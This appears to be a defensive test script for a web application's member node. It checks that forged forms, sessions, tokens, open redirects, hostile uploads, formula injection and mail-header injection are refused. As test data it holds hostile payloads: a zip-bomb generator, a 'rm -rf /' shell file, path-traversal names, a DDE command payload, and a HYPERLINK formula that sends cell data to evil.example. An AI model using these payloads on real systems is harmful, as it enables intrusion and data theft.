"""What must be refused is refused, and changes nothing: a node with members, asked as no browser of theirs would.

Usage: refusals.py PROGRAM FOLDER
"""

import http.client
import io
import json
import pathlib
import re
import secrets
import shutil
import struct
import sys
import time
import urllib.parse
import zipfile
import zlib

import openpyxl

from node_trial import Node, check, run, total

PROGRAM = pathlib.Path(sys.argv[1]).resolve()
WORK = pathlib.Path(sys.argv[2])
PASSWORD = "tall reeds by the quiet water"
OFFICE, OTHER, MINISTRY, PROPERTY = "office-ir-01", "office-az-ast", "mfa-ir", "population"
THING = "ir-01"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"look")'


class Client:
    """A member's browser without a page: keeps one cookie, sends what it is told to."""

    def __init__(self, node, source="127.0.0.1", cookie=None):
        self.node, self.source, self.cookie, self.secret = node, source, cookie, None

    def ask(self, path, fields=None, headers=None, body=None, method=None, origin=None):
        line = http.client.HTTPConnection("127.0.0.1", self.node.port, timeout=60, source_address=(self.source, 0))
        sent = {"Accept": "text/html"}
        if self.cookie:
            sent["Cookie"] = self.cookie
        if fields is not None:
            body = urllib.parse.urlencode(fields)
            sent["Content-Type"] = "application/x-www-form-urlencoded"
        if body is not None and "Origin" not in (headers or {}):
            sent["Origin"] = origin or f"http://127.0.0.1:{self.node.port}"
        sent.update(headers or {})
        sent = {name: value for name, value in sent.items() if value is not None}
        try:
            line.request(method or ("POST" if body is not None else "GET"), path, body, sent)
            answer = line.getresponse()
            text = answer.read().decode(errors="replace")
        except (ConnectionError, http.client.HTTPException) as error:
            return 0, {}, repr(error)
        finally:
            line.close()
        if field := answer.headers.get("Set-Cookie"):
            self.cookie, self.set_cookie = field.split(";")[0], field
        return answer.status, answer.headers, text

    def form(self, path):
        """The secret and the ticket of a page with a form."""
        page = self.ask(path)[2]
        found = {name: re.search(rf'name="{name}" value="([^"]*)"', page) for name in ("form-secret", "draft")}
        self.secret = found["form-secret"].group(1) if found["form-secret"] else self.secret
        return found["draft"].group(1) if found["draft"] else None

    def send(self, path, fields, **options):
        return self.ask(path, [("form-secret", self.secret or "")] + list(fields.items()), **options)

    def upload(self, path, fields, name, filename, content):
        mark = secrets.token_hex(12)
        parts = [f'--{mark}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
                 for key, value in {"form-secret": self.secret or "", **fields}.items()]
        parts.append(f'--{mark}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                     "Content-Type: application/octet-stream\r\n\r\n".encode() + content + b"\r\n")
        return self.ask(path, body=b"".join(parts) + f"--{mark}--\r\n".encode(),
                        headers={"Content-Type": f"multipart/form-data; boundary={mark}"})


class Office:
    """The members who are asked for, and the node they are at."""

    def __init__(self, node, data):
        self.node, self.data = node, data

    def member(self, name, party, *roles):
        mail = f"{name.lower()}@refused.example"
        options = [part for role in roles for part in ("--role", role)]
        added = run(PROGRAM, "member", "add", "--data", self.data, "--name", name, "--mail", mail, "--party", party,
                    *options, "--language", "en", "--json")
        client = Client(self.node)
        link = json.loads(added.stdout)["link"]
        status = client.ask(link[link.index("/", 8):], [("name", name), ("password", PASSWORD), ("language", "en")])[0]
        check(f"{name} comes in", status == 303, status)
        client.mail = mail
        client.form("/en/drafts/new?thing=ir-01&property=population" if "editor" in roles else "/en/account")
        return client

    def position(self):
        return json.loads(self.node.ask("/ready")[2]).get("position") or self.node.ask("/api/changes?limit=1")[2][-400:]

    def standing(self):
        """What is drafted and entered, as another program reads it from the store."""
        told = run("/usr/bin/python3", "-c", f"""
import sqlite3
store = sqlite3.connect("file:{self.data}/journal.sqlite?mode=ro", uri=True)
print(store.execute("SELECT max(position) FROM entry").fetchall(),
      store.execute("SELECT id, state, version FROM draft ORDER BY id").fetchall())""")
        return told.stdout


def token(client):
    client.form("/en/account/tokens")
    fields = [("form-secret", client.secret), ("label", "trial"), ("days", "7"), ("scopes", "write"), ("scopes", "release")]
    return re.search(r"littoral_[A-Za-z0-9_-]{43}", client.ask("/en/account/tokens", fields)[2]).group(0)


def fields(ticket, **more):
    return {"draft": ticket, "draft-kind": "claim", "thing": THING, "property": PROPERTY, "amount": "2530696",
            "unit": "{person}", "asOf": "2016", "calendar": "gregorian", "sourceTitle": "A report", "sourceLanguage": "en",
            "visibility": "everyone", "saidBy": OFFICE, "language": "en", "draft-act": "submit", **more}


def draft_of(client):
    """A draft that waits for its release; its id."""
    ticket = client.form(f"/en/drafts/new?thing={THING}&property={PROPERTY}")
    status, headers, page = client.send("/en/drafts/new", fields(ticket))
    check("a draft is submitted", status == 303, (status, re.findall(r'class="mistake"[^>]*>([^<]*)', page)))
    return ticket


def writes(office, editor, approver, reader, other, clearer):
    ticket = draft_of(editor)
    before = office.standing()
    for who, name in ((editor, "its author"), (reader, "a reader"), (other, "a neighbour"), (clearer, "a ministry")):
        for act in ("approve", "clear", "return", "submit", "drop", "reopen"):
            if who is editor and act in ("submit", "drop", "reopen") or who is clearer and act == "submit":
                continue
            status = who.send(f"/en/drafts/{ticket}/{act}", {"reason": "No", "draft-seen": "2"})[0]
            # A refusal, or the page again with the reason why not.
            check(f"{act} by {name} is refused", status in (303, 403, 404, 409, 422) and office.standing() == before, status)
    for path in ("/en/drafts/new", "/en/clearing", "/en/members/invite", "/en/things/new", "/en/letters/new", "/en/office"):
        status = reader.send(path, fields("a" * 20, reach="everyone", name="X", mail="x@y.example", party=OFFICE, roles="editor"))[0]
        check(f"a reader's {path} is refused", status in (403, 404) and office.standing() == before, status)
        status = Client(office.node).send(path, fields("b" * 20))[0]
        check(f"the public's {path} is refused", status in (303, 401, 403, 404) and office.standing() == before, status)
    return ticket


def forms(office, editor, approver, ticket):
    before = office.standing()
    for name, secret in (("without a secret", None), ("with a made-up secret", "x" * 43), ("with another's secret", editor.secret)):
        sent = [] if secret is None else [("form-secret", secret)]
        status = approver.ask(f"/en/drafts/{ticket}/approve", sent + [("draft-seen", "2")])[0]
        check(f"a form {name} is refused", status in (403, 409, 422) and office.standing() == before, status)
    for origin in ("http://evil.example", "null", "http://127.0.0.1:1", "https://127.0.0.1"):
        status = approver.send(f"/en/drafts/{ticket}/approve", {"draft-seen": "2"}, origin=origin)[0]
        check(f"a form from {origin} is refused", status == 403 and office.standing() == before, status)
    status = approver.send(f"/en/drafts/{ticket}/approve", {"draft-seen": "2"},
                           headers={"Origin": None, "Sec-Fetch-Site": "cross-site"})[0]
    check("a form that says it comes from elsewhere is refused", status == 403 and office.standing() == before, status)
    first = editor.send("/en/drafts/new", fields(ticket))[0]
    check("a form sent again finds its draft", first in (303, 409, 422) and office.standing() == before, first)
    check("the release passes", approver.send(f"/en/drafts/{ticket}/approve", {"draft-seen": "2"})[0] == 303)
    after = office.standing()
    check("and has changed something", after != before)
    again = approver.send(f"/en/drafts/{ticket}/approve", {"draft-seen": "2"})[0]
    check("a release sent again changes nothing", office.standing() == after and again < 500, again)
    again = editor.send("/en/drafts/new", fields(ticket))[0]
    check("nor does its first form", office.standing() == after and again < 500, again)
    again = editor.send("/en/drafts/new", fields(ticket, amount="1"))[0]
    check("nor with another figure", office.standing() == after and again < 500, again)


def sessions(office, editor):
    node = office.node
    fixed = f"littoral={secrets.token_urlsafe(32)}"
    victim = Client(node, cookie=fixed)
    status = victim.ask("/en/sign-in", [("mail", editor.mail), ("password", PASSWORD)])[0]
    check("signing in gives a new session", status == 303 and victim.cookie != fixed, status)
    check("the one set before is nobody's", Client(node, cookie=fixed).ask("/en/account")[0] == 303)
    planted = Client(node, cookie=editor.cookie)
    planted.form("/en/account")
    status = planted.send("/en/sign-in", {"mail": editor.mail, "password": PASSWORD})[0]
    check("nor does a living one become somebody's who signs in", status == 303 and planted.cookie != editor.cookie, status)
    old = victim.cookie
    victim.form("/en/account")
    victim.send("/en/sign-out", {})
    check("a session that was ended is nobody's", Client(node, cookie=old).ask("/en/account")[0] == 303)
    for forged in ("littoral=", "littoral=x", f"littoral={secrets.token_urlsafe(32)}", "littoral=" + "A" * 43, "littoral=' OR 1=1--"):
        check("a forged session is the public's", Client(node, cookie=forged).ask("/en/account")[0] == 303, forged)
    for target in ("//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "/%09/evil.example",
                   "javascript:alert(1)", "/en/desk\r\nX-Evil: 1", "http:evil.example", " //evil.example"):
        status, headers, _ = Client(node).ask(
            "/en/sign-in?next=" + urllib.parse.quote(target), [("mail", editor.mail), ("password", PASSWORD), ("next", target)])
        where = headers.get("Location", "")
        here = status == 303 and re.match(r"/[^/\\\s]", where) or status == 400 and not where
        check(f"next={target!r} stays here", here and "X-Evil" not in headers, (status, where))


def tokens(office, editor):
    node = office.node
    editor.form("/en/account/tokens")
    _, _, page = editor.send("/en/account/tokens", {"label": "trial", "days": "7", "scopes": "write"})
    token = re.search(r"littoral_[A-Za-z0-9_-]{43}", page).group(0)
    bearer = {"Authorization": f"Bearer {token}", "Accept": "application/json", "Content-Type": "application/json"}
    body = json.dumps({"id": "by-program-1", "kind": "claim", "fields": {"thing": THING, "property": PROPERTY, "amount": "2530700", "asOf": "2016"}})
    ask = lambda headers, path="/api/drafts": Client(node).ask(path, body=body, headers=headers)[0]
    check("a program writes with its token", ask(bearer) == 200)
    status, _, answer = Client(node).ask("/api/drafts/by-program-1/submit", body="{}", headers=bearer)
    check("and sends it on", status == 200 and json.loads(answer)["state"] == "submitted", (status, answer[:300]))
    before = office.standing()
    for forged in (token[:-1] + ("A" if token[-1] != "A" else "B"), "littoral_" + "A" * 43, token.swapcase(), "", token + "A"):
        status = ask({**bearer, "Authorization": f"Bearer {forged}"})
        check("a forged token is refused", status == 401 and office.standing() == before, status)
    status = Client(node, cookie=editor.cookie).ask("/api/drafts", body=body, headers={"Accept": "application/json", "Content-Type": "application/json"})[0]
    check("a cookie does not write through the interface", status in (401, 403) and office.standing() == before, status)
    status = ask(bearer, "/api/drafts/by-program-1/approve")
    check("a token without the scope does not release", status == 403 and office.standing() == before, status)
    listed = editor.ask("/en/account/tokens")[2]
    check("a token is shown once", token not in listed)
    ended = re.search(r'name="token" value="([^"]+)"', listed)
    check("a token can be ended", ended and editor.send("/en/account/tokens/end", {"token": ended.group(1)})[0] == 303)
    check("an ended token is refused", ask(bearer) == 401 and office.standing() == before)
    return token


def bomb():
    """A sheet whose packed 1 MB become 1 GB."""
    held = io.BytesIO()
    openpyxl.Workbook().save(held)
    packed = io.BytesIO()
    with zipfile.ZipFile(held) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.namelist():
            if not item.endswith("sheet1.xml"):
                target.writestr(item, source.read(item))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(1_000):
                sheet.write(b"<row/>" + b" " * (1 << 20))
            sheet.write(b"</sheetData></worksheet>")
    return packed.getvalue()


def png(more=b""):
    chunk = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + more)


PAPER = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n")


def uploads(office, editor, data):
    def offer(name, content):
        ticket = editor.form(f"/en/drafts/new?thing={THING}&property={PROPERTY}")
        return editor.upload("/en/drafts/new", fields(ticket), "evidence-file", name, content)
    shelf = lambda: sorted(path.name for path in (data / "files").rglob("*") if path.is_file())
    before = shelf()
    macro = io.BytesIO()
    with zipfile.ZipFile(macro, "w") as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    for name, content in {
        "scan.pdf": b"MZ" + b"\0" * 600, "scan.png": b"\x7fELF" + b"\0" * 600, "scan.jpg": b"#!/bin/sh\nrm -rf /\n",
        "page.pdf": b"<html><script>alert(1)</script></html>", "both.png": png(b"PK\x03\x04" + b"\0" * 400),
        "acts.pdf": PAPER.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "macro.docx": macro.getvalue(), "bomb.xlsx": bomb(), "empty.pdf": b"", "scan.exe": b"MZ" + b"\0" * 100,
        "scan.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    }.items():
        status, _, page = offer(name, content)
        check(f"{name} is refused in words", name == "empty.pdf" or status == 422 and "evidence-file" in page, status)
        check(f"{name} is not kept", shelf() == before, shelf())
    big = PAPER[:-7] + b" " * (80 << 20) + b"\n%%EOF\n"
    status = offer("big.pdf", big)[0]
    check("80 MB are refused", status in (0, 413, 422) and shelf() == before, status)
    check("and the node goes on", office.node.ask("/en/about")[0] == 200)
    for name in ("../../../../tmp/littoral-evil.pdf", "..\\\\..\\\\evil.pdf", "/etc/cron.d/evil.pdf", "a\r\nSet-Cookie: evil=1.pdf", "\u202efdp.exe.pdf"):
        status, _, page = offer(name, PAPER)
        check(f"a file named {name!r} is kept under its digest alone", status in (303, 400, 422) and all(
            re.fullmatch(r"[0-9a-f]{2,64}", kept) for kept in shelf()), (status, shelf()))
    check("nothing stands outside the folder", not pathlib.Path("/tmp/littoral-evil.pdf").exists())
    kept = ["".join(path.relative_to(data / "files" / "sha256").parts) for path in (data / "files").rglob("*") if path.is_file()]
    check("a paper is kept", len(kept) == 1, kept)
    for digest in kept:
        status, headers, _ = editor.ask(f"/files/{digest}")
        check("its owner reads it, and it runs nothing", status == 200 and "nosniff" in headers.get("X-Content-Type-Options", "")
              and "default-src 'none'" in headers.get("Content-Security-Policy", "")
              and not re.search(r"[\r\n/\\]", headers.get("Content-Disposition", "").split("filename")[-1].split("''")[-1]), dict(headers))
        check("the public does not", Client(office.node).ask(f"/files/{digest}")[0] == 404)
    for digest in ("../members.sqlite", "..%2fmembers.sqlite", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "." * 64, "0" * 64, "A" * 64,
                   "..%5cmembers.sqlite", "%00"):
        status = editor.ask(f"/files/{digest}")[0]
        check(f"/files/{digest[:30]} is not there", status in (400, 404), status)


def sheets(office, editor, other, data):
    """A sheet is checked before it is read, and belongs to its party."""
    before = office.standing()
    editor.form("/en/sheets")
    started = time.monotonic()
    status, headers, _ = editor.upload("/en/sheets", {}, "file", "bomb.xlsx", bomb())
    check("a sheet that unpacks to 1 GB is refused", "/accept" not in settled(editor, headers)[1], status)
    check("within 30 s", time.monotonic() - started < 30, time.monotonic() - started)
    for name, content in {"a.xlsx": b"MZ" + b"\0" * 900, "b.csv": b"\0" * 900, "c.xlsx": b"PK\x03\x04" + b"\0" * 900}.items():
        status, headers, _ = editor.upload("/en/sheets", {}, "file", name, content)
        refused = status == 422 or status in (200, 303) and "/accept" not in settled(editor, headers)[1]
        check(f"{name}, which is no sheet, is refused", refused, status)
    lines = f"thing,property,value,as_of,note\n{THING},{PROPERTY},2530702,2016,\"{FORMULA.replace(chr(34), chr(34) * 2)}\"\n"
    status, headers, _ = editor.upload("/en/sheets", {}, "file", "../../=1+1.csv", lines.encode())
    check("a sheet is taken", status == 303, status)
    where, page = settled(editor, headers)
    check("a formula in it refuses nothing and runs nowhere", "/accept" in page and f"{FORMULA}<" not in page, re.sub(r"<[^>]+>", " ", page)[-700:])
    for who, name in ((other, "a neighbour"), (Client(office.node), "the public")):
        status, _, page = who.ask(where)
        check(f"{name} does not see it", status in (303, 404) and "HYPERLINK" not in page, status)
        for act in ("accept", "cancel", "columns", "turn", "names"):
            status = who.send(f"{where}/{act}", {"sheet": "0"})[0]
            check(f"{act} by {name} is refused", status in (303, 401, 403, 404) and office.standing() == before, status)
    check("nothing stands outside the folder", all(".." not in str(path) and "=1+1" not in path.name for path in data.rglob("*")))


def settled(client, headers):
    """The page of a sheet once its rows have been looked at, and its address."""
    where = headers.get("Location", "/en/sheets")
    for _ in range(120):
        page = client.ask(where)[2]
        # While it is looked at it can be stopped, and nothing else.
        if "/cancel" not in page or "/accept" in page or "/columns" in page:
            break
        time.sleep(0.25)
    return where, page


def formulas(office, editor, approver, clearer):
    ticket = editor.form(f"/en/drafts/new?thing={THING}&property={PROPERTY}")
    status, _, page = editor.send("/en/drafts/new", fields(
        ticket, amount="2530701", note=FORMULA, noteLanguage="en", speaker="@SUM(1+1)*cmd|' /C calc'!A0"))
    released = approver.send(f"/en/drafts/{ticket}/approve", {"draft-seen": "2"})[0]
    check("words that look like a formula are words", status == 303 and released == 303,
          (status, released, re.findall(r'class="mistake"[^>]*>([^<]*)', page), re.findall(r'(?s)class="mistakes".*?</div>', page)))
    found = 0
    for who in (editor, Client(office.node)):
        status, _, text = who.ask(f"/en/claims.csv?thing={THING}")
        found += "HYPERLINK" in text
        check("no cell of a CSV begins like a formula", status == 200 and not re.search(r'(^|,|")[=@]', text, re.M), text[-400:])
    check("and the words are there", found > 0)
    line = http.client.HTTPConnection("127.0.0.1", office.node.port, timeout=60)
    line.request("GET", f"/en/claims.xlsx?thing={THING}")
    sheet = openpyxl.load_workbook(io.BytesIO(line.getresponse().read()))
    cells = [cell for row in sheet.active.iter_rows() for cell in row]
    check("a sheet holds no formula", cells and all(cell.data_type != "f" for cell in cells))


def letters(editor, administrator):
    administrator.form("/en/members/invite")
    for name, mail in (("Eve", "eve@refused.example\r\nBcc: all@refused.example"), ("Eve", "eve@refused.example, all@refused.example"),
                       ("Eve", '"x\n"@refused.example'), ("Eve", "<eve@refused.example>")):
        status, _, page = administrator.send("/en/members/invite", {
            "name": name, "mail": mail, "party": OFFICE, "roles": "editor", "language": "en"})
        check(f"no letter goes to {mail!r}", status == 422, status)


def doors(office, editor):
    """Who tries from elsewhere has to wait; the member does not."""
    thief = Client(office.node, source="127.0.0.66")
    statuses = [thief.ask("/en/sign-in", [("mail", editor.mail), ("password", f"wrong wrong {count}")])[0] for count in range(8)]
    check("who guesses has to wait", 429 in statuses, statuses)
    status = thief.ask("/en/sign-in", [("mail", editor.mail), ("password", PASSWORD)])[0]
    check("even with the right one", status == 429, status)
    status = Client(office.node).ask("/en/sign-in", [("mail", editor.mail), ("password", PASSWORD)])[0]
    check("the member comes in meanwhile", status == 303, status)
    first = Client(office.node, source="127.0.0.67").ask("/en/sign-in", [("mail", "nobody@refused.example"), ("password", "x" * 20)])
    second = Client(office.node, source="127.0.0.68").ask("/en/sign-in", [("mail", editor.mail), ("password", "x" * 20)])
    plain = lambda answer: answer[2].replace("nobody@refused.example", "").replace(editor.mail, "")
    check("nobody learns who is a member", first[0] == second[0] == 422 and plain(first) == plain(second))


def behind_proxy(office, editor):
    said = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "sea.example", "X-Forwarded-For": "203.0.113.9",
            "Origin": "https://sea.example", "Host": "inner.example"}
    client = Client(office.node, source="127.0.0.2")
    status = client.ask("/en/sign-in", [("mail", editor.mail), ("password", PASSWORD)], headers=said)[0]
    flags = getattr(client, "set_cookie", "")
    check("over https the cookie is for https alone", status == 303 and flags.startswith("__Host-") and "Secure" in flags
          and "HttpOnly" in flags and "SameSite=" in flags and "Path=/" in flags and "Domain" not in flags, (status, flags))
    stranger = Client(office.node, source="127.0.0.3")
    stranger.ask("/en/sign-in", [("mail", editor.mail), ("password", PASSWORD)],
                 headers={**said, "Origin": f"http://127.0.0.1:{office.node.port}", "Host": f"127.0.0.1:{office.node.port}"})
    check("a stranger's word is not taken", not getattr(stranger, "set_cookie", "").startswith("__Host-"))


def main():
    shutil.rmtree(WORK, ignore_errors=True)
    data = WORK / "node"
    data.mkdir(parents=True)
    node = Node(PROGRAM, data, "log.requests=yes", "proxy.trusted=127.0.0.2", region="Regions/caspian")
    office = Office(node, data)
    editor = office.member("Editrixa", OFFICE, "editor")
    approver = office.member("Approverixa", OFFICE, "approver")
    reader = office.member("Readerixa", OFFICE, "reader")
    other = office.member("Neighbourixa", OTHER, "editor", "approver")
    clearer = office.member("Clearerixa", MINISTRY, "clearer")
    administrator = office.member("Administratrixa", OTHER, "administrator")
    ticket = writes(office, editor, approver, reader, other, clearer)
    forms(office, editor, approver, ticket)
    sessions(office, editor)
    token = tokens(office, editor)
    uploads(office, editor, data)
    sheets(office, editor, other, data)
    formulas(office, editor, approver, clearer)
    letters(editor, administrator)
    doors(office, editor)
    behind_proxy(office, editor)
    node.end()
    people = (editor, approver, reader, other, clearer, administrator)
    # Whole names: three letters can stand in a ticket by chance.
    names = ["Editrixa", "Approverixa", "Readerixa", "Neighbourixa", "Clearerixa", "Administratrixa"]
    told = [word for word in [each.mail for each in people] + names + ["refused.example", PASSWORD, token, "HYPERLINK"]
            + [each.cookie.split("=")[1] for each in people] + [each.secret for each in people if each.secret]
            if word.lower() in "\n".join(node.lines).lower()]
    check("the log tells no name, address, session, token or password", not told, told)
    check("the chain verifies", run(PROGRAM, "journal", "verify", "--data", data).returncode == 0)
    return total()


if __name__ == "__main__":
    sys.exit(main())
